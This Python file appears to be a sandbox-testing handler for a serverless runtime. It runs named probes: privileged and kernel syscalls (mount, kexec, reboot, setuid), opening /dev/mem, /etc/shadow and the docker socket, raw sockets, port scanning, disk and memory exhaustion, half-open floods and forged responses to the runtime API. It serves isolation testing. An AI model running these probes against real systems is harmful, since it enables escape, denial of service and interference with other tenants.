"""Tries to get out of its sandbox, to look at others, and to exhaust what it has, in the way the event asks for.

Every attempt is named; what an attack returns are the attempts that succeeded, or how each ended.
"""

import ctypes
import errno
import fcntl
import mmap
import os
import socket
import struct
import subprocess
import sys
import threading
import time

LIBC = ctypes.CDLL(None, use_errno=True)
RUNTIME_API = ("127.0.0.1", 9001)
NOWHERE = ctypes.c_void_p(0)


def handler(event, context):
    return ATTACKS[event["attack"]](event)


def nothing(event):
    return "served"


def leave(event):
    os._exit(0)


# ---- the kernel ----

# Number on x86-64 and arguments, by name. All of these are for the powerful, or for nobody.
HERE = ctypes.create_string_buffer(8)


def vector(address):
    """An iovec of eight bytes."""
    return struct.pack("QQ", address, 8)


PRIVILEGED = {
    "mount": (165, b"none", b"/tmp", b"tmpfs", 0, NOWHERE),
    "umount": (166, b"/tmp", 2),
    "move_mount": (429, -100, b"/tmp", -100, b"/opt", 0),
    "open_tree": (428, -100, b"/", 1),
    "fsopen": (430, b"proc", 0),
    "pivot_root": (155, b"/tmp", b"/tmp"),
    "chroot": (161, b"/tmp"),
    "unshare a user": (272, 0x10000000),
    "unshare mounts": (272, 0x00020000),
    "setns": (308, 0, 0),
    "init_module": (175, b"x", 1, b""),
    "finit_module": (313, 0, b"", 0),
    "delete_module": (176, b"virtio", 0),
    "kexec_load": (246, 0, 0, NOWHERE, 0),
    "kexec_file_load": (320, -1, -1, 0, b"", 0),
    "reboot": (169, 0xFEE1DEAD, 672274793, 0x1234567, NOWHERE),
    "swapon": (167, b"/tmp", 0),
    "acct": (163, b"/tmp/acct"),
    "iopl": (172, 3),
    "ioperm": (173, 0x70, 1, 1),
    "sethostname": (170, b"evil", 4),
    "setdomainname": (171, b"evil", 4),
    "clock_settime": (227, 0, struct.pack("qq", 0, 0)),
    "settimeofday": (164, struct.pack("qq", 0, 0), NOWHERE),
    "adjtimex": (159, struct.pack("I", 0x2) + bytes(204)),
    "syslog": (103, 5, NOWHERE, 0),
    "ptrace the agent": (101, 16, 1, 0, 0),
    # From where a static program begins; without a place to read from it would be no more than a question.
    "read the agent's memory": (310, 1, vector(ctypes.addressof(HERE)), 1, vector(0x400000), 1, 0),
    "kill the agent": (62, 1, 9),
    "mknod /dev/mem": (133, b"/tmp/mem", 0o20666, 0x101),
    "mknod the port": (133, b"/tmp/port", 0o20666, 0xF101),
    "open_by_handle_at": (304, -100, struct.pack("II", 8, 1) + bytes(8), 0),
    "setuid": (105, 0),
    "setgid": (106, 0),
    "setgroups": (116, 1, struct.pack("I", 0)),
    "raise a limit": (160, 7, struct.pack("QQ", 1 << 20, 1 << 20)),
    "a nicer nice": (141, 0, 0, -20),
    "real time": (144, 0, 1, struct.pack("i", 50)),
    "fanotify_init": (300, 0x4, 0),
    "quotactl": (179, 0x800002, b"/tmp", 0, NOWHERE),
    "lookup_dcookie": (212, 1, NOWHERE, 0),
    "process_madvise": (440, -1, NOWHERE, 0, 0, 0),
}
# Doors to the kernel that a user may try: in a VM it is the guest's own, in a container the host's.
KERNEL = {
    "bpf": (321, 0, struct.pack("IIII", 2, 4, 8, 1) + bytes(100), 116),
    "io_uring_setup": (425, 4, bytearray(120)),
    "userfaultfd": (323, 0),
    "add_key": (248, b"user", b"k", b"v", 1, -3),
    "keyctl": (250, 0, -3, 1),
    "perf_event_open": (298, struct.pack("II", 1, 112) + bytes(104), 0, -1, -1, 0),
    "name_to_handle_at": (303, -100, b"/tmp", struct.pack("II", 8, 0) + bytes(8), bytearray(8), 0),
}


def calls(table):
    return {name: call(*table[name]) for name in table}


def call(number, *arguments):
    """None if it succeeded, or the error's name."""
    passed = [
        ctypes.create_string_buffer(bytes(a), len(a)) if isinstance(a, bytearray)
        else a if isinstance(a, (bytes, ctypes.c_void_p))
        else ctypes.c_long(a)
        for a in arguments
    ]
    if LIBC.syscall(ctypes.c_long(number), *passed) >= 0:
        return None
    return errno.errorcode[ctypes.get_errno()]


def privileged(event):
    done = [name for name, error in calls(PRIVILEGED).items() if error is None]
    try:
        with open("/dev/net/tun", "rb+", buffering=0) as tun:
            fcntl.ioctl(tun, 0x400454CA, struct.pack("16sH14x", b"evil0", 2))
            done.append("make a tap")
    except OSError:
        pass
    return done


def kernel(event):
    return [name for name, error in calls(KERNEL).items() if error is None]


FILES = """/dev/mem /dev/kmem /dev/port /dev/kmsg /dev/vda /dev/vport0p1 /dev/vport1p1 /dev/virtio-ports /dev/kvm
/dev/fuse /dev/loop-control /dev/loop0 /dev/console /dev/tty0 /dev/ttyS0 /dev/hvc0 /dev/rtc0 /dev/hpet
/dev/sda /dev/userfaultfd /dev/cpu/0/msr /proc/kcore /proc/kmsg /proc/sysrq-trigger /proc/1/mem /proc/1/environ
/proc/1/maps /proc/1/root /proc/1/cwd /proc/1/ns/mnt /sys/kernel/debug/sched
/sys/kernel/tracing/trace /sys/firmware/acpi/tables /etc/shadow /root /run/docker.sock
/var/run/docker.sock""".split()


def files(event):
    """What can be opened that nobody should have."""
    opened = []
    for path in FILES:
        try:
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            opened.append(path)
        except OSError:
            pass
    return opened


def switches(event):
    """What can be opened for writing in /proc and /sys, beside what is of one's own process."""
    opened = []
    for top in ("/proc/sys", "/proc/1", "/proc/irq", "/sys"):
        for path, _, names in os.walk(top):
            for name in names:
                try:
                    file = os.open(os.path.join(path, name), os.O_WRONLY | os.O_NONBLOCK)
                    try:
                        if name == "ns_last_pid":  # everybody may open it; to write takes a capability
                            os.write(file, b"1")
                        opened.append(os.path.join(path, name))
                    finally:
                        os.close(file)
                except OSError:
                    pass
    return opened


# ---- the network ----

SOCKETS = {
    "raw IP": (socket.AF_INET, socket.SOCK_RAW, 1),
    "packets": (17, socket.SOCK_RAW, 0x300),
    "cooked packets": (17, socket.SOCK_DGRAM, 0x300),
    "vsock": (40, socket.SOCK_STREAM, 0),
    "bluetooth": (31, socket.SOCK_RAW, 1),
    "xdp": (44, socket.SOCK_RAW, 0),
    "tipc": (30, socket.SOCK_STREAM, 0),
    "can": (29, socket.SOCK_RAW, 1),
}


def sockets(event):
    opened = []
    for name, arguments in SOCKETS.items():
        try:
            socket.socket(*arguments).close()
            opened.append(name)
        except OSError:
            pass
    return opened


def scan(event):
    """Which of the addresses and ports answer, with anything but silence and a refusal of the sandbox's own."""
    answered, lock = [], threading.Lock()

    def knock(address, port):
        with socket.socket() as s:
            s.settimeout(event["seconds"])
            try:
                s.connect((address, port))
                with lock:
                    answered.append(f"{address}:{port}")
            except OSError:
                pass

    threads = [
        threading.Thread(target=knock, args=(address, port))
        for address in event["addresses"]
        for port in event["ports"]
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sorted(answered)


# ---- exhaustion ----


def disk(event):
    """Takes all bytes, then all files; gives them back."""
    result = {}
    with open("/tmp/all", "wb") as file:
        size, step = 0, 1 << 30
        while step >= 1 << 20:
            try:
                os.posix_fallocate(file.fileno(), size, step)
                size += step
            except OSError as error:
                result["bytes"] = errno.errorcode[error.errno]
                step //= 2
        result["mebibytes"] = size >> 20
    os.unlink("/tmp/all")
    count = 0
    os.mkdir("/tmp/many")
    try:
        while True:
            os.close(os.open(f"/tmp/many/{count}", os.O_CREAT | os.O_WRONLY))
            count += 1
    except OSError as error:
        result["files"] = errno.errorcode[error.errno]
    result["count"] = count
    for number in range(count):
        os.unlink(f"/tmp/many/{number}")
    os.rmdir("/tmp/many")
    return result


def child_takes_all_memory(event):
    """A child takes all there is, in steps of so many bytes; who is left claims that all went well."""
    subprocess.run([sys.executable, "-c", f"x = []\nwhile True: x.append(b'x' * {event['step']})"])
    return "all went well"


def reads_in_want_of_memory(event):
    """Reads a file that is larger than what memory leaves to files, again and again; how often it got through."""
    block = os.urandom(1 << 20)
    with open("/tmp/large", "wb") as file:
        for _ in range(event["file"]):
            file.write(block)
    taken = bytearray(event["mebibytes"] << 20)
    for page in range(0, len(taken), 4096):
        taken[page] = 1
    rounds, end = 0, time.monotonic() + event["seconds"]
    with open("/tmp/large", "rb") as file, mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ) as mapped:
        while time.monotonic() < end:
            if event["how"] == "mapped":
                for at in range(0, len(mapped), 4096):
                    mapped[at]
            elif event["how"] == "scattered":
                for at in range(0, len(mapped) // 4):
                    mapped[at * 40_503 * 4096 % len(mapped)]
                    if time.monotonic() > end:
                        break
            else:
                file.seek(0)
                while file.read(1 << 20):
                    pass
            rounds += 1
    os.unlink("/tmp/large")
    return {"rounds": rounds, "kept": sum(taken) * 4096 >> 20}


def descriptors(event):
    taken = []
    try:
        while True:
            taken.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        return errno.errorcode[error.errno]
    finally:
        for descriptor in taken:
            os.close(descriptor)


# ---- the runtime API, and the agent behind it ----


def half_open(event):
    """Connections that say nothing, say half, or never read; all left behind."""
    requests = (
        b"",
        b"GET /2018-06-01/runti",
        b"POST /2018-06-01/runtime/invocation/x/response HTTP/1.1\r\nContent-Length: 6000000\r\n\r\nhalf",
        b"GET / HTTP/1.1\r\n\r\n" * 2000,
        b"POST /2018-06-01/runtime/invocation/x/response HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffff\r\n",
        b"\x03\x00\x00\x00\x10\x00\x00\x00" * 1000,
        b"A" * 100_000,
    )
    refused = 0
    for number in range(event["connections"]):
        s = socket.socket()
        HOARD.append(s)
        try:
            s.setblocking(True)
            s.settimeout(0.5)
            s.connect(RUNTIME_API)
            s.settimeout(0.01)
            s.send(requests[number % len(requests)])
        except OSError:
            refused += 1
    return refused


HOARD = []


def forged_answers(event):
    """Answers to invocations that are not its own, and its next one before it has answered this one."""
    statuses = []
    for path in ("invocation/00000000-0000-0000-0000-000000000000/response", "init/error", "restore/error"):
        with socket.socket() as s:
            s.settimeout(10)
            s.connect(RUNTIME_API)
            s.sendall(
                f"POST /2018-06-01/runtime/{path} HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{{}}".encode()
            )
            statuses.append(int(s.recv(4096).split()[1]))
    return statuses


def unix_sockets(event):
    """Unix sockets that somebody listens on."""
    reached = []
    with open("/proc/net/unix") as table:
        for line in table.readlines()[1:]:
            fields = line.split()
            if len(fields) > 7:
                with socket.socket(socket.AF_UNIX) as s:
                    try:
                        s.connect(fields[7].replace("@", "\0", 1))
                        reached.append(fields[7])
                    except OSError:
                        pass
    return reached


def wait(event):
    time.sleep(event["seconds"])
    return "waited"


ATTACKS = {
    function.__name__: function
    for function in (
        nothing, leave, privileged, kernel, files, switches, sockets, scan, disk, child_takes_all_memory,
        reads_in_want_of_memory, descriptors, half_open, forged_answers, unix_sockets, wait,
    )
}
